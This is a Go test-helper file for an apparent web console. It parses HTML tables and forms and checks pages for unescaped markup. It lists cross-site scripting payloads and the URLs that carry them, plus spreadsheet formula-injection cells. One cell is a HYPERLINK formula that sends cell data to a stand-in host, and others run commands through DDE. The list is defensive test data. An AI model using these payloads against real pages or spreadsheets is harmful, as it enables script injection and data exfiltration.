package webtest

import (
	"fmt"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// HTMLRows are the rows of a page's table tableID, as their cells' text,
// keyed by key of the row (rows keyed "" are left out).
func HTMLRows(t testing.TB, body, tableID string, key func(*html.Node) string) map[string][]string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]string{}
	table := FindNode(doc, func(n *html.Node) bool { return n.Data == "table" && Attr(n, "id") == tableID })
	if table == nil {
		return out
	}
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode && n.Data == "tr" {
			if k := key(n); k != "" {
				var cells []string
				for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
					if ch.Type == html.ElementNode && (ch.Data == "td" || ch.Data == "th") {
						cells = append(cells, strings.Join(strings.Fields(NodeText(ch)), " "))
					}
				}
				out[k] = cells
			}
			return
		}
		for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
			walk(ch)
		}
	}
	walk(table)
	return out
}

// Attr is an element's attribute ("" when it has none).
func Attr(n *html.Node, name string) string {
	for _, a := range n.Attr {
		if a.Key == name {
			return a.Val
		}
	}
	return ""
}

// ByAttr keys rows by an attribute.
func ByAttr(name string) func(*html.Node) string {
	return func(n *html.Node) string { return Attr(n, name) }
}

// FindNode returns the first element matching ok, depth first.
func FindNode(n *html.Node, ok func(*html.Node) bool) *html.Node {
	if n.Type == html.ElementNode && ok(n) {
		return n
	}
	for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
		if f := FindNode(ch, ok); f != nil {
			return f
		}
	}
	return nil
}

// NodeText is the text of a node and its children.
func NodeText(n *html.Node) string {
	var b strings.Builder
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
		}
		for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
			walk(ch)
		}
	}
	walk(n)
	return b.String()
}

// NodeHTML is a node rendered back to HTML.
func NodeHTML(n *html.Node) string {
	var b strings.Builder
	_ = html.Render(&b, n)
	return b.String()
}

// HostilePayloads are strings that would run script if a page printed them
// unescaped, in text, in an attribute, or as a link.
var HostilePayloads = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`'><svg onload=alert(1)>`,
	`</textarea><script>alert(2)</script>`,
	`javascript:alert(1)`,
}

// HostilePages are the console's HTML pages for team, then the addresses
// that carry each hostile payload in every value a page reflects (its
// query, a team's name in the path).
func HostilePages(team string) []string {
	q := url.QueryEscape
	pages := []string{"/", "/teams", "/teams/" + team + "/edit", "/teams/" + team + "/delete", "/teams/new",
		"/usage", "/usage/" + team, "/tasks", "/tasks?state=all", "/tasks?team=" + team + "&state=all", "/policy", "/reports/usage"}
	for _, p := range HostilePayloads {
		pages = append(pages,
			"/teams?saved="+q(p), "/teams?deleted="+q(p), "/policy?saved="+q(p),
			"/tasks?team="+q(p)+"&class="+q(p)+"&state="+q(p)+"&window="+q(p)+"&borrowing="+q(p),
			"/usage?resource="+q(p), "/usage/"+team+"?range="+q(p),
			"/reports/usage?from="+q(p)+"&to="+q(p),
			"/teams/derive?instanceType="+q(p)+"&gpus="+q(p),
			"/usage/"+url.PathEscape(p), "/teams/"+url.PathEscape(p)+"/edit")
	}
	return pages
}

// CSVPayloads are cells a spreadsheet would run as formulas.
var CSVPayloads = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-1+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
}

// CheckNoMarkup fails when an HTML page carries a payload as markup.
func CheckNoMarkup(t testing.TB, where, body string) {
	t.Helper()
	for _, p := range MarkupProblems(body) {
		t.Errorf("%s: %s", where, p)
	}
}

// MarkupProblems lists how a page carries a payload as markup: a raw
// payload, an element or attribute it would create, a javascript: link.
func MarkupProblems(body string) []string {
	var problems []string
	for _, p := range append(append([]string{}, HostilePayloads...), CSVPayloads...) {
		if strings.ContainsAny(p, `<>"'&`) && strings.Contains(body, p) {
			problems = append(problems, fmt.Sprintf("the payload %q appears unescaped", p))
		}
	}
	doc, err := html.Parse(strings.NewReader(body))
	if err != nil {
		return append(problems, fmt.Sprintf("not HTML: %v", err))
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "img", "iframe", "object", "embed", "base":
				problems = append(problems, fmt.Sprintf("unexpected <%s> element: %s", n.Data, NodeHTML(n)))
			case "script":
				// Only the console's own files; never inline code.
				if src := Attr(n, "src"); !strings.HasPrefix(src, "/static/") || strings.TrimSpace(NodeText(n)) != "" {
					problems = append(problems, "a script that is not the console's: "+NodeHTML(n))
				}
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				if strings.HasPrefix(key, "on") {
					problems = append(problems, fmt.Sprintf("event handler attribute %s=%q on <%s>", a.Key, a.Val, n.Data))
				}
				switch key {
				case "href", "src", "action", "formaction", "xlink:href":
					if v := strings.ToLower(strings.TrimSpace(a.Val)); strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "data:") {
						problems = append(problems, fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val))
					}
				}
			}
		}
		for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
			walk(ch)
		}
	}
	walk(doc)
	return problems
}

// FormValues are what a browser would post from the page's form formID as
// it is: inputs (checked radios and checkboxes only), the selected option of
// each select, and textareas.
func FormValues(t testing.TB, body, formID string) url.Values {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	form := FindNode(doc, func(n *html.Node) bool { return n.Data == "form" && Attr(n, "id") == formID })
	if form == nil {
		t.Fatalf("the page has no form %q", formID)
	}
	out := url.Values{}
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			name := Attr(n, "name")
			switch {
			case name == "":
			case n.Data == "input":
				typ := Attr(n, "type")
				if (typ == "radio" || typ == "checkbox") && !hasAttr(n, "checked") || typ == "submit" || typ == "button" {
					break
				}
				out.Add(name, Attr(n, "value"))
			case n.Data == "textarea":
				out.Add(name, NodeText(n))
			case n.Data == "select":
				selected := FindNode(n, func(o *html.Node) bool { return o.Data == "option" && hasAttr(o, "selected") })
				if selected == nil {
					selected = FindNode(n, func(o *html.Node) bool { return o.Data == "option" })
				}
				if selected != nil {
					out.Add(name, Attr(selected, "value"))
				}
				return
			}
		}
		for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
			walk(ch)
		}
	}
	walk(form)
	return out
}

func hasAttr(n *html.Node, name string) bool {
	for _, a := range n.Attr {
		if a.Key == name {
			return true
		}
	}
	return false
}
